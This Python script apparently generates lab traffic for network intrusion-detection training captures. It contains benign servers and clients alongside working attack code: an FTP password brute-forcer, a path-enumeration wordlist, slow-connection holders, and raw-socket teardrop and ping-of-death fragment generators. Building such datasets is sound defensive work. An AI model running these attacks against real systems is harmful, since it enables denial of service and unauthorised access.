#!/usr/bin/python3
"""Small servers and clients for bench/training-captures/make.sh (run with /usr/bin/python3).

Everything here talks to 127.x addresses inside the `nadtrain` network namespace only.
Sub-commands (argv[1]):

  http-server ADDR PORT ROOT [1.0|1.1]  static files; GET /slow/... waits 900 s before answering
  https-server ADDR PORT ROOT CERT KEY  the same over TLS (HTTP/1.1)
  hold-http ADDR PORT MODE N [SRC]      open N connections and keep them open until killed:
                                        s1 = GET keep-alive, read the reply, stay idle (S1 at cut)
                                        s2 = GET /slow/x, then shutdown(WR) (S2 at cut)
                                        s3 = GET to an HTTP/1.0 server, read until the server's FIN,
                                             never close (S3 at cut)
  dns-server ADDR PORT                  answers A queries (NXDOMAIN for names under .invalid)
  ntp-server ADDR PORT                  answers NTP mode-3 requests with a mode-4 reply
  ntp-client ADDR PORT N GAP            N requests, each from a new source port
  ftp-server ADDR PORT ROOT             pyftpdlib, one account alice / s3cret-Pass, no anonymous
  ftp-guess ADDR PORT USER N PER_CONN PARALLEL SEED [SRC]
                                        N wrong passwords, PER_CONN guesses per control
                                        connection, PARALLEL connections at a time
  ftp-good ADDR PORT N SEED [SRC]       N sessions: login, LIST, RETR, STOR, QUIT

Added for make-lab.sh:
  udp-sink ADDR PORT [REPLY]            an open UDP port; with REPLY=1 answers each datagram (8 B)
  ftp-typo ADDR PORT SEED [SRC]         one session: a mistyped password, then the right one,
                                        LIST, one RETR, QUIT
  words KIND N SEED                     N lines: KIND=pass (password guesses) or path (web paths,
                                        a few of them real pages of the lab web root)
  smtp-client ADDR PORT N SEED [SRC]    N SMTP sessions (EHLO, MAIL, RCPT, DATA of 1-12 KB, QUIT)
  teardrop SRC DST N GAP SEED SHAPE SPORT DPORT
                                        N UDP datagrams as overlapping IPv4 fragments (raw socket,
                                        root): SHAPE = OFF:LEN:MF,... in bytes (OFF a multiple of 8),
                                        the first piece at offset 0 holds the UDP header; SPORT /
                                        DPORT = N (fixed), N+ (N, N+1, ...) or rand (seeded, unique);
                                        a random IP id per datagram; GAP seconds between datagrams
  pod SRC DST N GAP SEED FRAG TAIL ORDER
                                        N ping-of-death ICMP echo requests (raw socket, root): an
                                        echo message of 65528 + TAIL bytes (over the 65,535-byte IP
                                        limit) cut into FRAG-byte fragments up to offset 65528, then
                                        a last fragment of TAIL bytes at offset 65528; ORDER = fwd or
                                        rev (last fragment first); GAP seconds between echoes
"""
import os
import random
import socket
import struct
import sys
import threading
import time


def http_server(addr, port, root, version='1.1', cert=None, key=None):
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

    class Handler(SimpleHTTPRequestHandler):
        protocol_version = 'HTTP/' + version

        def __init__(self, *a, **k):
            super().__init__(*a, directory=root, **k)

        def do_GET(self):
            if self.path.startswith('/slow/'):
                time.sleep(900)  # past the end of the script: no late reply lands in a later capture
            return super().do_GET()

        def log_message(self, *a):
            pass

    ThreadingHTTPServer.daemon_threads = True
    server = ThreadingHTTPServer((addr, int(port)), Handler)
    if cert:
        import ssl
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(cert, key)
        server.socket = ctx.wrap_socket(server.socket, server_side=True)
    server.serve_forever()


def https_server(addr, port, root, cert, key):
    http_server(addr, port, root, '1.1', cert, key)


def hold_http(addr, port, mode, n, src=None):
    socks = []
    for i in range(int(n)):
        s = socket.socket()
        if src:
            s.bind((src, 0))
        s.connect((addr, int(port)))
        path = '/slow/%d' % i if mode == 's2' else '/index.html'
        s.sendall(('GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\n'
                   'Accept: */*\r\nConnection: keep-alive\r\n\r\n' % (path, addr)).encode())
        if mode == 's2':
            s.shutdown(socket.SHUT_WR)
        elif mode == 's1':
            s.settimeout(2)
            try:
                s.recv(65536)
            except OSError:
                pass
        elif mode == 's3':
            s.settimeout(3)
            try:
                while s.recv(65536):
                    pass
            except OSError:
                pass
        socks.append(s)
        time.sleep(0.2)
    time.sleep(3600)


def dns_server(addr, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, int(port)))
    while True:
        q, peer = s.recvfrom(4096)
        if len(q) < 12:
            continue
        qid, = struct.unpack('!H', q[:2])
        # question section: labels up to the 0 byte, then qtype/qclass
        i, labels = 12, []
        while i < len(q) and q[i] != 0:
            labels.append(q[i + 1:i + 1 + q[i]].decode('ascii', 'replace'))
            i += q[i] + 1
        question = q[12:i + 5]
        qtype, = struct.unpack('!H', q[i + 1:i + 3])
        name = '.'.join(labels).lower()
        if name.endswith('invalid'):
            s.sendto(struct.pack('!HHHHHH', qid, 0x8183, 1, 0, 0, 0) + question, peer)
            continue
        if qtype == 1:
            h = sum(name.encode()) % 200 + 20
            ans = b'\xc0\x0c' + struct.pack('!HHIH', 1, 1, 300, 4) + bytes([10, 0, 3, h])
            s.sendto(struct.pack('!HHHHHH', qid, 0x8180, 1, 1, 0, 0) + question + ans, peer)
        else:
            s.sendto(struct.pack('!HHHHHH', qid, 0x8180, 1, 0, 0, 0) + question, peer)


def ntp_server(addr, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, int(port)))
    while True:
        q, peer = s.recvfrom(1024)
        if len(q) < 48:
            continue
        now = time.time() + 2208988800
        sec, frac = int(now), int((now % 1) * 2**32)
        reply = struct.pack('!BBbbII4s', 0x24, 2, 6, -20, 0, 0, b'LOCL')
        reply += struct.pack('!II', sec, frac) + q[40:48] + struct.pack('!IIII', sec, frac, sec, frac)
        s.sendto(reply, peer)


def ntp_client(addr, port, n, gap):
    for _ in range(int(n)):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        now = time.time() + 2208988800
        s.sendto(struct.pack('!B47x', 0x23)[:40] + struct.pack('!II', int(now), 0), (addr, int(port)))
        try:
            s.recvfrom(1024)
        except OSError:
            pass
        s.close()
        time.sleep(float(gap))


def ftp_server(addr, port, root):
    from pyftpdlib.authorizers import DummyAuthorizer
    from pyftpdlib.handlers import FTPHandler
    from pyftpdlib.servers import FTPServer
    import logging
    logging.basicConfig(level=logging.ERROR)
    auth = DummyAuthorizer()
    auth.add_user('alice', 's3cret-Pass', root, perm='elradfmw')
    FTPHandler.authorizer = auth
    FTPHandler.passive_ports = range(40000, 40100)
    FTPHandler.max_login_attempts = 3
    FTPHandler.auth_failed_timeout = 0.3
    FTPServer((addr, int(port)), FTPHandler).serve_forever()


WORDS = ['123456', 'password', 'qwerty', 'letmein', 'dragon', 'monkey', 'abc123', 'iloveyou',
         'trustno1', 'sunshine', 'master', 'welcome', 'shadow', 'ashley', 'football', 'jesus',
         'michael', 'ninja', 'mustang', 'password1', 'admin', 'root', 'toor', 'changeme', 'secret']


def ftp_guess(addr, port, user, n, per_conn, parallel, seed, src='127.0.0.1'):
    from ftplib import FTP, error_perm
    rnd = random.Random(int(seed))
    guesses = [rnd.choice(WORDS) + rnd.choice(['', '1', '!', '2024', '99']) for _ in range(int(n))]
    chunks = [guesses[i:i + int(per_conn)] for i in range(0, len(guesses), int(per_conn))]
    lock = threading.Lock()

    def worker():
        while True:
            with lock:
                if not chunks:
                    return
                chunk = chunks.pop(0)
            try:
                f = FTP()
                f.connect(addr, int(port), timeout=5, source_address=(src, 0))
                for pw in chunk:
                    try:
                        f.login(user, pw)
                    except error_perm:
                        pass
                try:
                    f.quit()
                except Exception:
                    f.close()
            except Exception:
                pass

    threads = [threading.Thread(target=worker) for _ in range(int(parallel))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()


def ftp_good(addr, port, n, seed, src='127.0.0.1'):
    import io
    from ftplib import FTP
    rnd = random.Random(int(seed))
    for i in range(int(n)):
        f = FTP()
        f.connect(addr, int(port), timeout=5, source_address=(src, 0))
        f.login('alice', 's3cret-Pass')
        f.retrlines('LIST', lambda _l: None)
        names = [x for x in f.nlst() if x.endswith('.bin') or x.endswith('.txt')]
        for name in rnd.sample(names, min(len(names), rnd.randint(1, 3))):
            f.retrbinary('RETR ' + name, lambda _b: None)
        if rnd.random() < 0.5:
            f.storbinary('STOR upload-%d-%d.txt' % (int(seed), i), io.BytesIO(os.urandom(rnd.randint(200, 6000))))
        f.quit()
        time.sleep(rnd.uniform(0.2, 1.0))


def udp_sink(addr, port, reply='0'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, int(port)))
    while True:
        _, peer = s.recvfrom(65536)
        if reply == '1':
            s.sendto(b'ack\x00\x00\x00\x00\x00', peer)


def ftp_typo(addr, port, seed, src='127.0.0.1'):
    from ftplib import FTP, error_perm
    rnd = random.Random(int(seed))
    f = FTP()
    f.connect(addr, int(port), timeout=5, source_address=(src, 0))
    try:
        f.login('alice', rnd.choice(['s3cret-pass', 's3cret_Pass', 'S3cret-Pass', 's3cert-Pass']))
    except error_perm:
        pass
    time.sleep(rnd.uniform(1.0, 2.5))  # the user retypes
    f.login('alice', 's3cret-Pass')
    f.retrlines('LIST', lambda _l: None)
    f.retrbinary('RETR README.txt', lambda _b: None)
    f.quit()


PATH_WORDS = ['admin', 'login', 'wp-admin', 'wp-login.php', 'backup', 'config', 'old', 'test', 'dev',
              'api', 'v1', 'v2', 'uploads', 'images', 'img', 'css', 'js', 'static', 'assets', 'files',
              'include', 'inc', 'lib', 'cgi-bin', 'server-status', 'phpmyadmin', 'db', 'sql', 'data',
              'private', 'secret', 'tmp', 'temp', 'logs', 'log', 'user', 'users', 'account', 'panel',
              'dashboard', 'console', 'manager', 'portal', 'shop', 'cart', 'blog', 'news', 'forum',
              'docs', 'doc', 'help', 'support', 'search', 'install', 'setup', 'update', 'git', '.git',
              '.env', '.htaccess', 'robots.txt', 'sitemap.xml', 'xmlrpc.php', 'index.php', 'home',
              'main', 'default', 'web', 'www', 'site', 'public', 'download', 'downloads', 'media']
PATH_EXT = ['', '', '', '/', '.php', '.html', '.bak', '.old', '.txt', '.zip', '.asp', '.jsp']


def words(kind, n, seed):
    rnd = random.Random(int(seed))
    out, seen = [], set()
    while len(out) < int(n):
        if kind == 'pass':
            w = rnd.choice(WORDS) + rnd.choice(['', '1', '!', '2024', '99', '123', '#', 'x'])
        else:
            w = rnd.choice(PATH_WORDS) + rnd.choice(['', '', '_' + rnd.choice(PATH_WORDS), str(rnd.randint(1, 9))])
            w += rnd.choice(PATH_EXT)
            if rnd.random() < 0.03:
                w = rnd.choice(['index.html', 'page1.html', 'page2.html', 'css/site.css', 'js/app.js'])
        if w in seen and kind == 'pass':
            continue
        seen.add(w)
        out.append(w)
    print('\n'.join(out))


def smtp_client(addr, port, n, seed, src='127.0.0.1'):
    import smtplib
    from email.message import EmailMessage
    rnd = random.Random(int(seed))
    names = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace']
    for i in range(int(n)):
        m = EmailMessage()
        m['From'] = '%s@lab.example' % rnd.choice(names)
        m['To'] = '%s@lab.example' % rnd.choice(names)
        m['Subject'] = 'weekly report %d' % rnd.randint(1, 99)
        m.set_content(('line %d of the report, nothing unusual here.\n' % i) * rnd.randint(20, 300))
        with smtplib.SMTP(addr, int(port), timeout=10, source_address=(src, 0)) as s:
            s.ehlo('ws%d.lab.example' % rnd.randint(1, 40))
            s.send_message(m)
        time.sleep(rnd.uniform(0.2, 1.5))


def _csum(b):
    if len(b) % 2:
        b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def _ip_fragment(src, dst, proto, ident, off, mf, data):
    """One IPv4 packet: header (no options, TTL 64) + data, fragment offset `off` bytes."""
    if off % 8:
        raise ValueError('fragment offset %d is not a multiple of 8' % off)
    flags = (0x2000 if mf else 0) | (off // 8)
    h = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(data), ident, flags, 64, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack('!H', _csum(h)) + h[12:] + data


def _raw_socket():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL


def _ports(spec, n, rnd):
    if spec == 'rand':
        return rnd.sample(range(1024, 65536), n)
    if spec.endswith('+'):
        return [int(spec[:-1]) + i for i in range(n)]
    return [int(spec)] * n


def teardrop(src, dst, n, gap, seed, shape, sport, dport):
    n, gap, rnd = int(n), float(gap), random.Random(int(seed))
    pieces = [tuple(int(x) for x in p.split(':')) for p in shape.split(',')]
    if pieces[0][0] != 0 or pieces[0][1] < 8:
        raise ValueError('the first piece must start at 0 and hold the UDP header')
    total = max(off + ln for off, ln, _ in pieces)
    sports, dports = _ports(sport, n, rnd), _ports(dport, n, rnd)
    ids = rnd.sample(range(1, 65536), n)
    s = _raw_socket()
    for i in range(n):
        body = bytes(rnd.getrandbits(8) for _ in range(total - 8))
        dgram = struct.pack('!HHHH', sports[i], dports[i], total, 0) + body  # UDP checksum 0: none
        for off, ln, mf in pieces:
            s.sendto(_ip_fragment(src, dst, 17, ids[i], off, mf, dgram[off:off + ln]), (dst, 0))
            time.sleep(0.002)
        time.sleep(gap)


def pod(src, dst, n, gap, seed, frag, tail, order):
    n, gap, frag, tail, rnd = int(n), float(gap), int(frag), int(tail), random.Random(int(seed))
    if frag % 8 or tail < 8:
        raise ValueError('FRAG must be a multiple of 8 and TAIL at least 8')
    size = 65528 + tail                       # ICMP message; + 20 bytes of IP header > 65,535
    data = bytes(i & 0xff for i in range(size - 8))
    icmp_id = rnd.randint(1, 65535)
    ids = rnd.sample(range(1, 65536), n)
    cuts = list(range(0, 65528, frag)) + [65528]
    s = _raw_socket()
    for i in range(n):
        msg = struct.pack('!BBHHH', 8, 0, 0, icmp_id, i + 1) + data
        msg = msg[:2] + struct.pack('!H', _csum(msg)) + msg[4:]
        frags = [(a, b) for a, b in zip(cuts, cuts[1:] + [size])]
        if order == 'rev':
            frags.reverse()
        for a, b in frags:
            s.sendto(_ip_fragment(src, dst, 1, ids[i], a, b < size, msg[a:b]), (dst, 0))
        time.sleep(gap)


if __name__ == '__main__':
    cmd, args = sys.argv[1], sys.argv[2:]
    {
        'http-server': http_server, 'https-server': https_server, 'hold-http': hold_http, 'dns-server': dns_server,
        'ntp-server': ntp_server, 'ntp-client': ntp_client, 'ftp-server': ftp_server,
        'ftp-guess': ftp_guess, 'ftp-good': ftp_good,
        'udp-sink': udp_sink, 'ftp-typo': ftp_typo, 'words': words, 'smtp-client': smtp_client,
        'teardrop': teardrop, 'pod': pod,
    }[cmd](*args)
